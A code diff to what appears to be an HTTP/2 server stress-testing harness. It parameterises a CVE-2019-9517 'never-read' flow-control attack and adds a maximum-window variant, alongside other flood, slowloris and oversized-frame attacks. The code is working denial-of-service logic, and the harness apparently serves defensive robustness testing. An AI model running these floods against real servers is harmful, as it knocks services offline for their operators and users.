@@ -24,7 +24,8 @@ public static class Attacks
         new("empty-frame-flood", "CVE-2019-9518 CVE-2019-9516", "empty DATA, empty unknown-type frames and PRIORITY churn on an open stream", EmptyFrames),
         new("window-update-flood", "CVE-2019-9518 (WINDOW_UPDATE)", "WINDOW_UPDATE increment 1 on the connection and a stream, as fast as possible", WindowUpdateFlood),
         new("data-dribble", "CVE-2019-9511", "window of 1 octet, 100 large responses per connection, 1-octet WINDOW_UPDATEs", DataDribble),
-        new("never-read", "CVE-2019-9517", "huge windows, 100 large responses per connection, never reads", NeverRead),
+        new("never-read", "CVE-2019-9517", "1 GiB windows, 100 large responses per connection, never reads", c => NeverRead(c, 1u << 30)),
+        new("window-max", "CVE-2019-9517, RFC 9113 §6.9.1", "windows at the 2^31-1 maximum, 100 large responses per connection, never reads", c => NeverRead(c, 0x7fffffff)),
         new("oversized-frame", "RFC 9113 §4.2", "frame headers announcing 16 MiB payloads, then the payload", OversizedFrame),
         new("slowloris", "slowloris", "300 idle TCP connections + 200 that drip a HEADERS frame one octet at a time", Slowloris),
         new("streams-1000", "RFC 9113 §5.1.2", "1000 open streams (POST without END_STREAM) on one connection", Streams1000),
@@ -237,15 +238,16 @@ public static class Attacks
 
     // CVE-2019-9517: open every window wide (§6.9), ask for 100 large responses per
     // connection, never read: the server's socket buffer fills and the handlers keep writing.
-    private static Task NeverRead(AttackContext ctx) => Parallel(4, _ => Reconnecting(ctx, 4, async c =>
+    // At 2^31-1 (the §6.9.1 maximum) window arithmetic must not overflow either.
+    private static Task NeverRead(AttackContext ctx, uint window) => Parallel(4, _ => Reconnecting(ctx, 4, async c =>
     {
         var block = Hpack.Request("GET", ctx.Paths.Large, ctx.Authority);
-        var batch = new FrameBatch().WindowUpdate(0, 0x7fffffff - 65535);
+        var batch = new FrameBatch().WindowUpdate(0, window - 65535);
         for (uint id = 1; id < 200; id += 2) batch.Headers(id, block, endStream: true);
         if (!await c.SendAsync(batch, ctx.Token)) return;
         await Delay(ctx, (int)ctx.Duration.TotalMilliseconds);
         await c.DrainAsync(TimeSpan.FromMilliseconds(200));
-    }, read: false, (Wire.InitialWindowSize, 0x7fffffff)));
+    }, read: false, (Wire.InitialWindowSize, window)));
 
     // RFC 9113 §4.2: a frame over SETTINGS_MAX_FRAME_SIZE is a FRAME_SIZE_ERROR, decided from the
     // 9-octet header before the payload is read; a server that buffers it first pays 16 MiB.
